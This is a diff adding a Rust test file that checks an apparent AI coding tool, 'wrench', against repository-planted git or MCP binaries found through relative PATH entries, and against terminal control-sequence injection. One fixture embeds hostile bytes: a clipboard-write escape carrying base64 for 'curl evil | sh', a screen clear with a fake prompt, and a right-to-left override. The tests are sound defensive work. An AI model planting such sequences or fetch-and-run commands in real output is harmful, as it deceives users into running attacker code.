@@ -1,0 +1,329 @@
+//! What a cloned repository controls cannot reach past wrench: its own
+//! programs are never the ones wrench starts through a relative `PATH`
+//! entry, and its bytes never reach a person's terminal as control
+//! sequences. Real binary, real git repositories, real files.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod common;
+
+use common::{Env, wrench_cmd};
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::process::Command;
+
+fn git(root: &Path, args: &[&str]) {
+    let st = Command::new("git")
+        .args(args)
+        .current_dir(root)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("HOME", root.parent().unwrap())
+        .output()
+        .unwrap();
+    assert!(st.status.success(), "git {args:?}: {st:?}");
+}
+
+fn repo() -> Env {
+    let e = Env::new();
+    git(&e.root, &["init", "-q"]);
+    std::fs::write(e.root.join("a.txt"), "one\n").unwrap();
+    git(&e.root, &["add", "a.txt"]);
+    git(
+        &e.root,
+        &[
+            "-c",
+            "user.name=T",
+            "-c",
+            "user.email=t@e",
+            "commit",
+            "-qm",
+            "first",
+        ],
+    );
+    e
+}
+
+/// An executable `name` at the root that leaves `marker` when it runs.
+fn plant(root: &Path, name: &str, marker: &Path) {
+    let p = root.join(name);
+    std::fs::write(
+        &p,
+        format!("#!/bin/sh\necho ran > '{}'\nexit 0\n", marker.display()),
+    )
+    .unwrap();
+    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+#[test]
+fn the_git_tool_never_runs_a_git_the_repository_ships_through_a_relative_path_entry() {
+    let e = repo();
+    let marker = e.state.join("planted-git-ran");
+    plant(&e.root, "git", &marker);
+    let path = std::env::var("PATH").unwrap();
+    for (spelled, path) in [
+        ("empty entry", format!(":{path}")),
+        ("dot entry", format!(".:{path}")),
+        ("trailing empty entry", format!("{path}:")),
+    ] {
+        for op in ["status", "log"] {
+            let out = wrench_cmd(&e, &["--no-daemon", "git", op])
+                .current_dir(&e.root)
+                .env("PATH", &path)
+                .output()
+                .unwrap();
+            assert!(
+                !marker.exists(),
+                "{spelled}, git {op}: the repository's git ran"
+            );
+            assert!(
+                out.status.success(),
+                "{spelled}, git {op}: {}",
+                String::from_utf8_lossy(&out.stderr)
+            );
+            if op == "log" {
+                assert!(String::from_utf8_lossy(&out.stdout).contains("first"));
+            }
+        }
+    }
+}
+
+/// A data row: its name, the hostile bytes, how `read` shows them.
+struct Row {
+    name: String,
+    bytes: String,
+    shown: String,
+}
+
+/// `\xHH`, `\u{HEX}`, `\r`, `\n`, `\t`, `\\`; any other backslash is itself.
+fn unescape(s: &str) -> String {
+    let mut out = String::new();
+    let mut rest = s;
+    while let Some(i) = rest.find('\\') {
+        out.push_str(&rest[..i]);
+        let tail = &rest[i + 1..];
+        let (c, used) = if let Some(h) = tail.strip_prefix('x') {
+            let v = u32::from_str_radix(&h[..2], 16).unwrap();
+            (char::from_u32(v).unwrap(), 3)
+        } else if let Some(h) = tail.strip_prefix("u{") {
+            let end = h.find('}').unwrap();
+            let v = u32::from_str_radix(&h[..end], 16).unwrap();
+            (char::from_u32(v).unwrap(), 2 + end + 1)
+        } else {
+            match tail.chars().next() {
+                Some('r') => ('\r', 1),
+                Some('n') => ('\n', 1),
+                Some('t') => ('\t', 1),
+                Some('\\') => ('\\', 1),
+                _ => ('\\', 0),
+            }
+        };
+        out.push(c);
+        rest = &tail[used..];
+    }
+    out.push_str(rest);
+    out
+}
+
+fn rows() -> Vec<Row> {
+    let text = std::fs::read_to_string(
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/terminal_escapes.tsv"),
+    )
+    .unwrap();
+    text.lines()
+        .filter(|l| !l.is_empty() && !l.starts_with('#'))
+        .map(|l| {
+            let f: Vec<&str> = l.split('\t').collect();
+            assert_eq!(f.len(), 3, "row {l:?}");
+            Row {
+                name: f[0].to_string(),
+                bytes: unescape(f[1]),
+                shown: unescape(f[2]),
+            }
+        })
+        .collect()
+}
+
+/// The lines of `out` that hold a byte a terminal would act on, once
+/// wrench's own colour (SGR: `ESC [ digits m`) is taken out.
+fn raw_lines(out: &[u8]) -> Vec<String> {
+    let text = String::from_utf8_lossy(out);
+    let sgr = regex::Regex::new("\x1b\\[[0-9;]*m").unwrap();
+    let plain = sgr.replace_all(&text, "");
+    plain
+        .lines()
+        .filter(|l| {
+            l.chars()
+                .any(|c| c != '\t' && wrench_core::frame::is_hidden(c))
+        })
+        .map(|l| format!("{l:?}"))
+        .collect()
+}
+
+fn run(e: &Env, args: &[&str]) -> std::process::Output {
+    wrench_cmd(e, args).current_dir(&e.root).output().unwrap()
+}
+
+/// A repository holding every row: a line of `c.txt`, a file name, a
+/// commit whose author and subject carry it.
+fn hostile_repo(rows: &[Row]) -> Env {
+    let e = repo();
+    let mut content = String::new();
+    for r in rows {
+        content.push_str(&format!("row:{} before {} after\n", r.name, r.bytes));
+        let name: String = format!("n-{}-{}.txt", r.name, r.bytes)
+            .chars()
+            .map(|c| if c == '/' { '_' } else { c })
+            .collect();
+        std::fs::write(e.root.join(name), "marker\n").unwrap();
+        let author: String = r.bytes.chars().filter(|c| *c != '\n').collect();
+        let st = Command::new("git")
+            .args([
+                "-c",
+                &format!("user.name=A{author}B"),
+                "-c",
+                "user.email=a@b",
+            ])
+            .args(["commit", "-q", "--allow-empty", "-m"])
+            .arg(format!("row:{} {}", r.name, r.bytes))
+            .current_dir(&e.root)
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("HOME", &e.state)
+            .output()
+            .unwrap();
+        assert!(st.status.success(), "commit of row {}: {st:?}", r.name);
+    }
+    std::fs::write(e.root.join("c.txt"), content).unwrap();
+    e
+}
+
+#[test]
+fn hostile_bytes_reach_a_persons_terminal_only_as_visible_escapes() {
+    let rows = rows();
+    let e = hostile_repo(&rows);
+    let mut failures = Vec::new();
+    for color in ["always", "never"] {
+        let c = ["--no-daemon", "--color", color];
+        let mut surfaces: Vec<(String, Vec<String>)> = vec![
+            ("read".into(), vec!["read".into(), "c.txt".into()]),
+            (
+                "grep content".into(),
+                vec![
+                    "grep".into(),
+                    "before".into(),
+                    "--mode".into(),
+                    "content".into(),
+                ],
+            ),
+            ("grep files".into(), vec!["grep".into(), "marker".into()]),
+            ("glob".into(), vec!["glob".into(), "n-*".into()]),
+            ("ls".into(), vec!["ls".into()]),
+            ("git log".into(), vec!["git".into(), "log".into()]),
+        ];
+        for r in &rows {
+            surfaces.push((
+                format!("error naming row {}", r.name),
+                vec!["read".into(), format!("missing-{}", r.bytes)],
+            ));
+        }
+        for (surface, args) in &surfaces {
+            let mut all: Vec<&str> = c.to_vec();
+            all.extend(args.iter().map(String::as_str));
+            let out = run(&e, &all);
+            for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
+                for l in raw_lines(bytes) {
+                    failures.push(format!("--color {color} {surface} {stream}: raw in {l}"));
+                }
+            }
+            if surface == "read" {
+                let text = String::from_utf8_lossy(&out.stdout);
+                for r in &rows {
+                    let want = format!("before {}", r.shown);
+                    if !text.contains(&want) {
+                        failures.push(format!(
+                            "--color {color} read: row {} not shown as {want:?}",
+                            r.name
+                        ));
+                    }
+                }
+            }
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn json_keeps_the_bytes_exact() {
+    let rows = rows();
+    let e = hostile_repo(&rows);
+    let out = run(&e, &["--no-daemon", "--json", "read", "c.txt"]);
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let content = v["output"]["content"].as_str().unwrap();
+    for r in rows.iter().filter(|r| !r.bytes.contains('\r')) {
+        assert!(
+            content.contains(&format!("before {} after", r.bytes)),
+            "row {}",
+            r.name
+        );
+    }
+    // ... and a terminal showing the JSON does not act on it either.
+    assert!(
+        raw_lines(&out.stdout).is_empty(),
+        "{:?}",
+        raw_lines(&out.stdout)
+    );
+}
+
+#[test]
+fn an_escaped_read_as_a_person_sees_it() {
+    let e = Env::new();
+    std::fs::write(
+        e.root.join("notes.md"),
+        "copy this: \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 done\n\x1b[2J\x1b[Hfake prompt $ \nsafe\rEVIL\ncrlf\r\naccess = \u{202e}nimda\u{202c}\n\u{9b}31mred\n",
+    )
+    .unwrap();
+    let out = run(
+        &e,
+        &["--no-daemon", "--color", "always", "read", "notes.md"],
+    );
+    insta::assert_snapshot!(String::from_utf8_lossy(&out.stdout));
+}
+
+#[test]
+fn bash_commands_get_a_path_without_relative_entries() {
+    let e = repo();
+    let marker = e.state.join("planted-git-ran");
+    plant(&e.root, "git", &marker);
+    let path = std::env::var("PATH").unwrap();
+    for path in [format!(":{path}"), format!(".:{path}")] {
+        let out = wrench_cmd(&e, &["--no-daemon", "--mode", "yolo", "bash", "git status"])
+            .current_dir(&e.root)
+            .env("PATH", &path)
+            .output()
+            .unwrap();
+        assert!(!marker.exists(), "PATH={path}: the repository's git ran");
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+}
+
+#[test]
+fn an_mcp_servers_bare_command_is_never_found_in_the_current_directory() {
+    let e = repo();
+    let marker = e.state.join("planted-server-ran");
+    plant(&e.root, "my-mcp-server", &marker);
+    let cfg = e.state.join("mcp.toml");
+    std::fs::write(&cfg, "[mcp.servers.s]\ncommand = \"my-mcp-server\"\n").unwrap();
+    let path = std::env::var("PATH").unwrap();
+    for path in [format!(":{path}"), format!(".:{path}")] {
+        let out = wrench_cmd(&e, &["--config", cfg.to_str().unwrap(), "mcp", "list"])
+            .current_dir(&e.root)
+            .env("PATH", &path)
+            .output()
+            .unwrap();
+        assert!(!marker.exists(), "PATH={path}: the directory's server ran");
+        let text = String::from_utf8_lossy(&out.stdout);
+        assert!(text.contains("absolute PATH directory"), "{text}");
+    }
+}
